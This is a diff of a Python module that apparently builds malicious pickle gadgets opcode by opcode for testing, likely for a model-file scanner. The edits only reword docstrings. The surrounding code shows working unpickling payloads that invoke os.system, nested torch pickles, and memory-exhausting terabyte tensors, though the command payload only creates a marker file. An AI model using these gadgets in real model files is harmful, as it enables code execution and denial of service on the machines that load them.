@@ -1,4 +1,4 @@
-"""Gadgets: pieces of pickles that do something when they are unpickled, written opcode by opcode."""
+"""Gadgets: pieces of pickles that run code when they are unpickled, written opcode by opcode."""
 
 import io
 import os
@@ -14,11 +14,11 @@ import torch
 
 @dataclass(frozen=True)
 class Marker:
-    """What a payload wants to leave.
+    """The file that a payload tries to create.
 
     Attributes:
         path: The file.
-        module: The name of a module that leaves it when it is imported.
+        module: The name of a module that creates it when it is imported.
     """
 
     path: Path
@@ -26,12 +26,12 @@ class Marker:
 
     @property
     def shell(self) -> str:
-        """A shell command that leaves it."""
+        """A shell command that creates it."""
         return f"touch '{self.path}'"
 
     @property
     def python(self) -> str:
-        """An expression that leaves it."""
+        """An expression that creates it."""
         return f"open({str(self.path)!r}, 'w')"
 
 
@@ -74,7 +74,7 @@ class Reduced:
 
 
 def nested(marker: Marker) -> bytes:
-    """A pickle in a pickle, which torch itself would unpickle without looking."""
+    """A pickle in a pickle: torch would unpickle it without a check."""
     legacy = io.BytesIO()
     torch.save(Reduced(marker.shell), legacy, _use_new_zipfile_serialization=False)
     return call("torch.storage", "_load_from_bytes", raw_bytes(legacy.getvalue()))
@@ -87,7 +87,7 @@ def object_array(marker: Marker) -> bytes:
 
 
 def partial(marker: Marker) -> bytes:
-    """An object whose state is what it calls."""
+    """An object that calls its state."""
     made = name("functools", "partial") + tuple_of(name("builtins", "print")) + b"\x81"
     state = tuple_of(name("os", "system"), tuple_of(text(marker.shell)), b"}", b"}")
     return made + state + b"b" + b")R"
@@ -169,7 +169,7 @@ GADGETS: dict[str, Gadget] = {
     "hooks of a tensor": lambda m: call(
         "torch._utils", "_rebuild_parameter", GADGETS["os.system"](m), b"\x88", name("os", "system")
     ),
-    # Nothing of theirs would run; they would fill the memory, take for ever, or crash.
+    # These run nothing: they would fill the memory, take forever, or crash.
     "a tensor of terabytes": lambda m: call("torch", "FloatTensor", b"\x8a\x06\x00\x00\x00\x00\x00\x10"),
     "bytes of terabytes": lambda m: call("__builtin__", "bytearray", b"\x8a\x06\x00\x00\x00\x00\x00\x10"),
     "bytes that double": lambda m: doubled(),
